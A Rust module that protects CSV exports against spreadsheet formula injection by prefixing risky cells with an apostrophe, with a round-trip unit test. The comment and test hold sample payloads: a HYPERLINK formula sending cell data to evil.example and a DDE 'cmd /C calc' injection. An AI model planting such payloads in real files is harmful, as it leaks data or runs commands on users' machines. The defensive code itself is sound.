//! CSV cells a spreadsheet will not run. Excel, LibreOffice and Google Sheets read a cell
//! that starts with `=`, `+`, `-` or `@` (and, after a tab or carriage return, the same)
//! as a formula: an enterprise could title an agreement `=HYPERLINK("http://…?d="&A1)`
//! and an analyst who opens the export would run it. Every CSV the product writes passes
//! its cells through [`escape`], which puts an apostrophe before such a cell, the mark
//! spreadsheet users know for "this is text" (OWASP's advice for CSV injection). A cell
//! that already starts with an apostrophe gets one more, so that [`unescape`] (which bundle
//! import applies to every CSV cell) gives back exactly what was exported. Numbers, such as
//! `-12.5`, are left as they are: they are no formula, and stay numbers in a spreadsheet.
//!
//! Workbooks (`.xlsx`) need none of this: their cells are written as strings or numbers,
//! never as formulas.

use std::borrow::Cow;

/// What makes a spreadsheet read a cell as a formula, and the escape mark itself.
const TRIGGERS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// `cell` as a CSV file may hold it.
pub fn escape(cell: &str) -> Cow<'_, str> {
    let triggers = cell.starts_with(TRIGGERS);
    if !triggers || cell.parse::<f64>().is_ok_and(f64::is_finite) {
        return Cow::Borrowed(cell);
    }
    Cow::Owned(format!("'{cell}"))
}

/// A cell read from a CSV file, with [`escape`]'s apostrophe taken off.
pub fn unescape(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// [`escape`] over a whole row.
pub fn row<'a, I, S>(cells: I) -> impl Iterator<Item = Cow<'a, str>>
where
    I: IntoIterator<Item = &'a S>,
    S: AsRef<str> + 'a + ?Sized,
{
    cells.into_iter().map(|c| escape(c.as_ref()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_come_back() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")",
            ),
            ("+86 731 2888 0000", "'+86 731 2888 0000"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("'quoted", "''quoted"),
            ("-12.5", "-12.5"),
            ("+3", "+3"),
            (
                "株洲中车时代电气股份有限公司",
                "株洲中车时代电气股份有限公司",
            ),
            ("", ""),
        ];
        for (cell, written) in cases {
            assert_eq!(escape(cell), written, "{cell:?}");
            assert_eq!(unescape(&escape(cell)), cell, "{cell:?} round trip");
        }
    }
}
